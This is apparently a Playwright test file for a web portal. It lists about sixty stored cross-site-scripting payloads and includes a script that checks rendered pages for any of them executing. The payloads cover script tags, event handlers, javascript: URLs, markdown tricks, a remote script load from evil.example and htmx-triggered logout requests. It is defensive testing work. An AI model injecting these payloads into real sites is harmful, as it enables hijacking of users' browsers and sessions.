"""A corpus of stored-XSS payloads, and a check in the browser that none of them came alive."""

from playwright.sync_api import Page

# Each payload, if it came alive, would open a dialog or set window.xssRan.
PAYLOADS = [
    "<script>alert('xss1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>window.xssRan=1</script>",
    "</script><script>alert('xss2')</script>",
    "<img src=x onerror=alert('xss3')>",
    '<img src="x" onerror="window.xssRan=1">',
    "<IMG SRC=javascript:alert('xss4')>",
    "<img src=`javascript:alert('xss5')`>",
    "<svg onload=alert('xss6')>",
    "<svg><script>alert('xss7')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss8')\"><text x=20 y=20>click</text></a></svg>",
    "<svg><animate onbegin=alert('xss9') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss10')>",
    "<body onload=alert('xss11')>",
    "<iframe src=\"javascript:alert('xss12')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert('xss13')</script>\"></iframe>",
    "<object data=\"javascript:alert('xss14')\"></object>",
    "<embed src=\"data:text/html,<script>alert('xss15')</script>\">",
    "<a href=\"javascript:alert('xss16')\">click me</a>",
    "<a href=\"JaVaScRiPt:alert('xss17')\">click me</a>",
    "<a href=\"&#106;avascript:alert('xss18')\">click me</a>",
    "<a href=\"jav&#x09;ascript:alert('xss19')\">click me</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzMjAnKTwvc2NyaXB0Pg==">click</a>',
    "<a href=\"vbscript:msgbox('xss21')\">click</a>",
    "[click me](javascript:alert('xss22'))",
    "[click me](JAVASCRIPT:alert('xss23'))",
    "[click me](data:text/html,<script>alert('xss24')</script>)",
    "[click me]( javascript:alert('xss25'))",
    "[a](javascript&#58;alert('xss26'))",
    "![img](javascript:alert('xss27'))",
    "![x](x\" onerror=\"alert('xss28'))",
    "[x](https://example.org\" onmouseover=\"alert('xss29'))",
    "<https://example.org/\" onclick=\"alert('xss30')>",
    "[ref]: javascript:alert('xss31')\n\n[ref]",
    "<div style=\"background:url(javascript:alert('xss32'))\">x</div>",
    "<style>@import 'javascript:alert(\"xss33\")';</style>",
    "<link rel=stylesheet href=\"javascript:alert('xss34')\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss35\')">',
    "<base href=\"javascript:alert('xss36')//\">",
    "<form action=\"javascript:alert('xss37')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('xss38')\">go</button>",
    "<input autofocus onfocus=alert('xss39')>",
    "<details open ontoggle=alert('xss40')>",
    "<video><source onerror=\"alert('xss41')\"></video>",
    "<audio src=x onerror=alert('xss42')>",
    "<marquee onstart=alert('xss43')>x</marquee>",
    "<div onmouseover=\"alert('xss44')\">hover</div>",
    "\"><script>alert('xss45')</script>",
    "'><img src=x onerror=alert('xss46')>",
    "\" autofocus onfocus=\"alert('xss47')",
    "</textarea><script>alert('xss48')</script>",
    "</title><script>alert('xss49')</script>",
    "<!--<img src=\"--><img src=x onerror=alert('xss50')//\">",
    "<scr<script>ipt>alert('xss51')</scr</script>ipt>",
    "<<script>script>alert('xss52');//<</script>/script>",
    "<img src=x oNeRrOr=alert('xss53')",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss54')>\">",
    "{{ 7*7 }}{% csrf_token %}<img src=x onerror=alert('xss55')>",
    "<template><script>alert('xss56')</script></template>",
    '<x-tag hx-get="/accounts/logout/" hx-trigger="load">htmx</x-tag>',
    '<div hx-on:click="alert(\'xss57\')" hx-trigger="load">htmx</div>',
    # htmx reads data-hx-* as it reads hx-* (the portal's own markup uses the data- form).
    '<x-tag data-hx-get="/accounts/logout/" data-hx-trigger="load">htmx</x-tag>',
    '<div data-hx-on:click="alert(\'xss59\')" data-hx-trigger="load">htmx</div>',
    "\u202e<script>alert('xss58')</script>",
]

# What any live payload would leave in the page: event handler attributes, script-like URLs,
# elements that run or embed code, and scripts that are not the site's own.
LIVE_MARKUP = """() => {
  const found = [];
  const urlAttrs = ["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const htmx = name.replace(/^data-/, "");
      if (name.startsWith("on") || htmx.startsWith("hx-on")) found.push(`${el.tagName} ${name}`);
      if (htmx.startsWith("hx-") && /logout/.test(attr.value)) found.push(`${el.tagName} ${name}=${attr.value}`);
      const url = attr.value.replace(/[\\s\\u0000-\\u001f]/g, "");
      if (urlAttrs.includes(name) && /^(javascript|vbscript|data:text)/i.test(url)) {
        found.push(`${el.tagName} ${name}=${attr.value}`);
      }
    }
  }
  const embedded = "iframe, object, embed, base, meta[http-equiv], style, svg script, math";
  for (const el of document.querySelectorAll(embedded + ", link[rel=stylesheet]:not([href^='/static/'])")) {
    found.push(el.tagName);
  }
  for (const script of document.scripts) {
    if (script.type === "application/ld+json") {
      try { JSON.parse(script.textContent); } catch (e) { found.push("broken JSON-LD"); }
    } else if (!script.src || new URL(script.src).origin !== location.origin) {
      found.push(`SCRIPT ${script.src || script.textContent.slice(0, 60)}`);
    }
  }
  if (window.xssRan) found.push("window.xssRan");
  return found;
}"""


def assert_no_live_payload(page: Page) -> None:
    assert page.dialogs == [], f"{page.url} opened dialogs: {page.dialogs}"  # type: ignore[attr-defined]
    found = page.evaluate(LIVE_MARKUP)
    assert found == [], f"{page.url} has live markup from user text: {found}"
